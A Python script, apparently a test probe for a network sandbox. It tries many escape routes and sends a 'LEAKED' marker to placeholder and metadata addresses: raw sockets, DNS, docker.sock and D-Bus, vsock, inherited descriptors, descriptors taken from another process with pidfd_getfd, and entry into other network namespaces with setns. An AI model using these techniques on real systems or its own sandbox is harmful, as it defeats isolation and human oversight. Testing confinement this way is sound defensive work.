"""A program that tries everything to reach the network outside. Arguments: a descriptor that it may have inherited, a program that
makes i386 calls or "none", and the process id of somebody outside. It tries once for each line of its input, but for "keep", which
makes a connection that the lender allows, and "lose", which waits for its end.
"""

import ctypes
import errno
import os
import select
import socket
import struct
import subprocess
import sys

inherited, second_table, outsider = sys.argv[1:]
HOSTS = ["192.0.2.1", "192.0.2.7", "198.51.100.9", "169.254.169.254", "127.0.0.1", "127.0.0.53", "255.255.255.255", "224.0.0.251"]
HOSTS6 = ["2001:db8:77::1", "2001:db8:77::7", "2001:db8::9", "::1", "ff02::fb", "::ffff:192.0.2.7", "64:ff9b::c000:207"]
PORTS = [53, 80, 4000, 4444]
SERVICES = ["/run/nscd/socket", "/run/systemd/resolve/io.systemd.Resolve", "/run/dbus/system_bus_socket",
            "/run/avahi-daemon/socket", "/run/docker.sock", "/run/snapd.socket"]
QUERY = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\x06LEAKED\x07example\0\0\1\0\1"
LENT = "10.77.0.1", 7000
libc = ctypes.CDLL(None, use_errno=True)


def attempt(what):
    try:
        return what()
    except (OSError, ValueError):
        return None


def every_address():
    for host in HOSTS:
        yield socket.AF_INET, host
    for host in HOSTS6:
        yield socket.AF_INET6, host


def streams():
    waiting = {}
    for family, host in every_address():
        for port in PORTS:
            s = socket.socket(family, socket.SOCK_STREAM)
            s.setblocking(False)
            s.connect_ex((host, port))
            waiting[s.fileno()] = s
    # Data in the first packet, and a socket that is told its device.
    for family, host in every_address():
        s = socket.socket(family, socket.SOCK_STREAM)
        s.setblocking(False)
        attempt(lambda: s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"out\0"))
        attempt(lambda: s.sendto(b"LEAKED", socket.MSG_FASTOPEN, (host, 80)))
        waiting[s.fileno()] = s
        s = socket.socket(family, socket.SOCK_STREAM)
        s.setblocking(False)
        attempt(lambda: s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"out\0"))
        s.connect_ex((host, 80))
        waiting[s.fileno()] = s
    poll = select.poll()
    for fd in waiting:
        poll.register(fd, select.POLLOUT)
    for fd, _ in poll.poll(2000):
        attempt(lambda: waiting[fd].send(b"LEAKED"))


def devices():
    """Sockets for datagrams that are told their device: before they are connected, and afterwards."""
    try:
        index = socket.if_nametoindex("out")
    except OSError:
        return
    in_order = struct.pack("!I", index)
    pktinfo = bytes(16) + struct.pack("=I", index)
    for option in (1, 25, b"out\0"), (1, 62, index), (0, 50, in_order), (41, 76, in_order), (41, 50, pktinfo):
        for family, host in every_address():
            for before in True, False:
                s = socket.socket(family, socket.SOCK_DGRAM)
                if before:
                    attempt(lambda: s.setsockopt(*option))
                attempt(lambda: s.connect((host, 4444)))
                attempt(lambda: s.setsockopt(*option))
                attempt(lambda: s.send(b"LEAKED"))


def datagrams():
    for protocol in 17, 136:
        for family, host in every_address():
            for port in PORTS:
                s = attempt(lambda: socket.socket(family, socket.SOCK_DGRAM, protocol))
                if s is None:
                    continue
                s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                attempt(lambda: s.sendto(QUERY if port == 53 else b"LEAKED", (host, port)))
    for family, kind, protocol in [(2, 2, 1), (2, 3, 1), (2, 3, 255), (10, 2, 58), (10, 3, 58), (2, 1, 132), (2, 6, 33), (2, 1, 262)]:
        s = attempt(lambda: socket.socket(family, kind, protocol))
        if s is None:
            continue
        s.setblocking(False)
        for target in ("192.0.2.7", "198.51.100.9") if family == 2 else ("2001:db8:77::7",):
            attempt(lambda: s.connect((target, 80)))
            attempt(lambda: s.sendto(b"\x08\0\xf7\xff\0\0\0\0LEAKED", (target, 80)))


def other_families():
    for family in range(1, 46):
        for kind in (1, 2, 3, 5):
            s = attempt(lambda: socket.socket(family, kind, 0)) if family not in (1, 2, 10, 16) else None
            if s is not None:
                print("family", family, kind, "is open", flush=True)
    vsock = attempt(lambda: socket.socket(40, 1))
    if vsock is not None:
        attempt(lambda: vsock.connect((2, 4000)))


def names():
    pid = os.fork()
    if pid == 0:
        # The library waits as long as resolv.conf says.
        attempt(lambda: socket.getaddrinfo("LEAKED.example", 80))
        os._exit(0)
    for _ in range(50):
        if os.waitpid(pid, os.WNOHANG)[0]:
            return
        select.select([], [], [], 0.1)
    os.kill(pid, 9)
    os.waitpid(pid, 0)


def services():
    for path in SERVICES + [f"/run/user/{os.getuid()}/bus", "\0/tmp/dbus-outside"]:
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(1)
        if attempt(lambda: s.connect(path)) is None:
            attempt(lambda: s.send(b"LEAKED"))


def descriptors():
    for fd in [int(inherited), *range(3, 64)]:
        s = attempt(lambda: socket.socket(fileno=os.dup(fd)))
        if s is not None:
            attempt(lambda: s.send(b"LEAKED", socket.MSG_DONTWAIT))
    taken = attempt(lambda: os.pidfd_open(int(outsider)))
    if taken is not None:
        for fd in range(64):
            got = libc.syscall(438, taken, fd, 0)
            if got >= 0:
                print("pidfd_getfd is open", flush=True)
                attempt(lambda: os.write(got, b"LEAKED"))
    for pid in (outsider, "1", str(os.getppid())):
        ns = attempt(lambda: os.open(f"/proc/{pid}/ns/net", os.O_RDONLY))
        if ns is not None and libc.setns(ns, 0x40000000) == 0:
            # What it already is in counts for nothing.
            streams()


def other_calls():
    ring = libc.syscall(425, 8, ctypes.create_string_buffer(200))
    if ring >= 0:
        print("io_uring is open", flush=True)
    if second_table != "none":
        subprocess.run([second_table], check=False)


def keep():
    kept = socket.create_connection(LENT, 60)
    kept.sendall(b"echo")
    print("kept", kept.recv(9).decode(), flush=True)
    return kept


def lose(kept):
    try:
        end = kept.recv(9)
    except OSError as error:
        end = errno.errorcode[error.errno]
    print("lost", end, errno.errorcode[socket.socket().connect_ex(LENT)], flush=True)


kept = None
for line in sys.stdin:
    if line == "keep\n":
        kept = keep()
        continue
    if line == "lose\n":
        lose(kept)
        continue
    for way in (streams, datagrams, devices, other_families, names, services, descriptors, other_calls):
        way()
    print("tried", line.strip(), flush=True)
